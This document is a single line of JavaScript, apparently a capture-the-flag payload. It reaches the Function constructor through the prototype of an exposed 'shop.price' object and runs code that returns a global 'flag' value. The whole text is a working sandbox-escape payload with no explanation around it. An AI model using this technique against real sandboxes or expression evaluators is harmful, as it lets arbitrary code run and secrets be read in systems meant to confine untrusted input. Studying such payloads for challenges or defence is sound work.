Reflect.construct(Object.getPrototypeOf(shop.price).constructor, ["return globalThis.flag"])()
